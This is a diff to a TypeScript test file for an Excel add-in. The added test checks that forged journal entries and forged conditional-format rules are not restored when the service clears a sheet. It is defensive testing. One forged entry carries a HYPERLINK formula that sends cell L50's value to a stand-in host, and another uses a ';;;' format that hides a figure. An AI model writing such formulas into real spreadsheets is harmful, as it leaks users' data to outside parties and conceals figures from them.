@@ -5,7 +5,8 @@
  * not write, run a formula, hide a figure, wipe a sheet, or freeze the pane. Each attack below was
  * reproduced on the adapter before its fix.
  */
-import { JOURNAL_NAMESPACE } from '../../src/office/journal';
+import { JOURNAL_NAMESPACE, journalToXml } from '../../src/office/journal';
+import { codeFormula } from '../../src/office/marks';
 import { createSummaryWriter } from '../../src/office/summarySheet';
 import { SUMMARY_MARKER_TOKEN } from '../../src/domain/summaryMarker';
 import { READINGS } from '../../src/office/fake';
@@ -48,6 +49,39 @@ describe.each(READINGS)('forged journals (%s)', (_, readings) => {
     expect(wb.cellState(SHEET, 'B10').formula).toBeUndefined();
     expect(result.message).not.toMatch(/revenue à son état d'avant/);
     expect(result.message).toMatch(/entrées du journal ignorées\b.*L51, L50, B10/);
+  });
+
+  it('forged entries of the current shape, with forged rules carrying their ids, are not believed either', async () => {
+    const { wb, service } = setup([layoutAnnex(blankCodesSpec([2])).grid], { readings });
+    const sheet = wb.sheet(SHEET);
+    const code = wb.cellState(SHEET, 'C23').value as string;
+    const at = '2026-01-01T00:00:00.000Z';
+    const fills = [
+      // Not a Chorus code: a figure.
+      { id: '11-1', cell: 'L51', written: String(wb.cellState(SHEET, 'L51').value), before: '99999999', at },
+      // A code, but "before" is a formula to write back.
+      { id: '11-2', cell: 'C22', written: code, before: '=HYPERLINK("https://exemple.invalid/?d="&L50,"Voir")', at },
+      // A code written over text that was not blank.
+      { id: '11-3', cell: 'C25', written: code, before: 'note de la DDETS', at },
+      // A format that would hide the figure, on a cell that is not text-formatted.
+      { id: '11-4', cell: 'L50', written: code, before: '', numberFormatBefore: ';;;', at },
+    ];
+    wb.addXmlPart(journalToXml({ version: 2, sheets: [{ sheetId: sheet.id, sheetName: SHEET, fills }], summaries: [] }));
+    for (const f of fills) {
+      const target = f.cell === 'L51' ? f.written : code;
+      await Excel.run(async (context) => {
+        const cf = context.workbook.worksheets.getItem(SHEET).getRange(f.cell).conditionalFormats.add('Custom');
+        cf.custom.rule.formula = codeFormula(f.cell, target, f.id);
+        cf.custom.format.fill.color = '#D9F2E6';
+      });
+    }
+    const before = snapshot(wb);
+    const result = await service.clear('fr');
+    // Everything the rules name is as it was; only the rules that claimed to be ours are gone.
+    expect(snapshot(wb).cells).toEqual(before.cells);
+    expect(wb.sheet(SHEET).cfs).toEqual([]);
+    expect(result.message).toMatch(/effacées \(0\)/);
+    expect(result.message).toMatch(/3 entrées du journal ignorées.*L51, C22, C25/);
   });
 
   it('a malformed address is ignored and listed; later clears do not throw', async () => {
